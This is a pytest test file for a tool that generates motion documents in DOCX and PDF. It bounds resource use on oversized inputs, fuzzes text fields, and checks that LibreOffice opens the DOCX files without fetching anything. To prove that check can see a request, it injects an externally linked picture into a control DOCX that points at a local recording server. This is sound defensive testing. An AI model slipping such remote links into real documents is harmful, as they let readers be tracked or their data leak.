    source = env.write("motion.yaml", text)
    return Expect(env.build(source), FAIL)


BOUNDED["data-20000-signatories-the-most-allowed"] = _many_signatories
BOUNDED["data-50000-resolution-items"] = _many_items


def _cap_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


@pytest.fixture(scope="module")
def bounded_runs(
    tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, tuple[Env, Expect, Run | None]]:
    """Start every bounded case at once; a run is None when it had to be killed."""
    import sys
    import time

    started = {}
    for name, setup in BOUNDED.items():
        env = make_env(tmp_path_factory.mktemp(name))
        expect = setup(env)
        command = [sys.executable, "-m", "toolkit", *map(str, expect.args)]
        process = subprocess.Popen(
            command,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            preexec_fn=_cap_memory,
            cwd=ROOT,
            # A template's own time limit, shorter than the 10 s a real one gets: the point is
            # that it is stopped, not how late.
            env={**os.environ, "UNIONKIT_TEMPLATE_SECONDS": "1"},
        )
        started[name] = (env, expect, process)
    deadline = time.monotonic() + BOUNDED_SECONDS
    runs: dict[str, tuple[Env, Expect, Run | None]] = {}
    for name, (env, expect, process) in started.items():
        try:
            stdout, stderr = process.communicate(timeout=max(0.1, deadline - time.monotonic()))
            runs[name] = (env, expect, Run(process.returncode, stdout, stderr, None))
        except subprocess.TimeoutExpired:
            process.kill()
            process.communicate()
            runs[name] = (env, expect, None)
    return runs


@pytest.mark.parametrize("name", list(BOUNDED))
def test_hostile_input_is_bounded(
    name: str, bounded_runs: dict[str, tuple[Env, Expect, Run | None]]
) -> None:
    env, expect, run = bounded_runs[name]
    assert run is not None, f"still running after {BOUNDED_SECONDS} s: killed"
    check_run(env, expect, run)


# == any text at all  =============================================================================
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=200)
# A Markdown item turns `*a*`, `[a](b)`, `` `a` ``, `- a`, `1. a` and `\*` into formatting; those
# are covered by the cases above, so here the item avoids the characters Markdown acts on.
MARKDOWN_SYNTAX = "*_`[]<>\\-+.)!"
ITEM = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters=MARKDOWN_SYNTAX), max_size=200
)


def printed_form(text: str) -> str:
    """What a value should print as: control characters removed, whitespace collapsed."""
    return " ".join(clean_text(text).split())


@settings(
    max_examples=25,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(title=TEXT, item=ITEM, branch=TEXT)
def test_any_text_builds_in_both_formats(
    tmp_path_factory: pytest.TempPathFactory, title: str, item: str, branch: str
) -> None:
    folder = tmp_path_factory.mktemp("any-text")
    source = folder / "motion.yaml"
    data = resolution(title=title, branch__name=branch, notes=[item])
    source.write_text(yaml_doc(data), encoding="utf-8")
    run = run_cli("build", source, "-o", folder / "out")
    output = f"exit {run.exit_code}\nstdout:\n{run.stdout}\nstderr:\n{run.stderr}"

    assert run.exception is None, f"{run.exception!r}\n{output}"
    assert "Traceback" not in run.stderr and "please report" not in run.stderr, output
    blank = [
        key
        for key, text in (("title", title), ("branch.name", branch), ("notes.0", item))
        if not printed_form(text)
    ]
    if blank:
        assert run.exit_code == 1, output
        for key in blank:
            assert re.search(at(source, ANY_LINE, key), run.stderr, re.MULTILINE), output
        return
    assert run.exit_code == 0, output
    assert (folder / "out" / "motion.pdf").is_file()
    printed = printed_form(docx_text(folder / "out" / "motion.docx"))
    for text in (title, branch, item):
        assert printed_form(text) in printed, f"{printed_form(text)!r} not in the DOCX\n{printed}"


# == LibreOffice opens every DOCX the corpus made, and fetches nothing  ===========================
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
    'wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="99" name="p"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData'
    ' uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic='
    '"http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="99"'
    ' name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="' + REL + '"'
    ' r:link="rIdControl"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>'
    '<a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/>'
    "</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def _seen(self) -> None:
        self.requests.append(f"{self.command} {self.path}")
        self.send_response(404)
        self.end_headers()

    do_GET = do_HEAD = do_POST = do_OPTIONS = do_PROPFIND = _seen

    def log_message(self, *args: object) -> None:
        return


@pytest.fixture
def listening() -> Iterator[tuple[int, list[str]]]:
    requests: list[str] = []
    handler = type("Recorder", (_Recorder,), {"requests": requests})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], requests
    finally:
        server.shutdown()
        server.server_close()


def _with_linked_picture(source: Path, target: Path, port: int) -> None:
    """A copy of a DOCX with a picture Word and LibreOffice fetch from the web server."""
    with zipfile.ZipFile(source) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    rels = parts["word/_rels/document.xml.rels"].decode()
    link = f"http://127.0.0.1:{port}/control.png"
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdControl" Type="{REL}/image" Target="{link}"'
        ' TargetMode="External"/></Relationships>',
    ).encode()
    document = parts["word/document.xml"].decode()
    parts["word/document.xml"] = document.replace("<w:body>", "<w:body>" + PICTURE, 1).encode()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice is not installed (apt install libreoffice-writer-nogui)",
)
def test_libreoffice_opens_every_docx_the_corpus_writes_without_a_request(
    tmp_path: Path, listening: tuple[int, list[str]]
) -> None:
    port, requests = listening
    # The corpus above ran first in this process (one module, in order) and kept its DOCX;
    # run alone, this test builds them itself.
    made = [path for path in MADE_DOCX if path.is_file()]
    if not made:
        for name, setup in CASES.items():
            (tmp_path / name).mkdir()
            env = make_env(tmp_path / name)
            expect = setup(env)
            if expect.exit != OK or expect.args[0] != "build":
                continue
            run = run_cli(*expect.args, "-f", "docx")
            assert run.exit_code == 0, f"{name}: {run.stderr}"
            made += sorted(env.out.rglob("*.docx"))
    assert len(made) >= 20, f"only {len(made)} DOCX made"
    folder = tmp_path / "opened"
    folder.mkdir()
    files = []
    for number, path in enumerate(made):
        copy = folder / f"{number:03d}-{path.name}"
        shutil.copy(path, copy)
        files.append(copy)
    control = folder / "control.docx"
    _with_linked_picture(files[0], control, port)
    result = subprocess.run(
        ["soffice", "--headless", "--norestore", "--convert-to", "pdf", "--outdir",
         str(tmp_path / "pdf"), *map(str, files), str(control)],
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    converted = list((tmp_path / "pdf").glob("*.pdf"))
    assert len(converted) == len(files) + 1, result.stdout
    assert requests, "LibreOffice fetched nothing even for the control: the test cannot see"
    assert {request.split()[1] for request in requests} == {"/control.png"}, requests
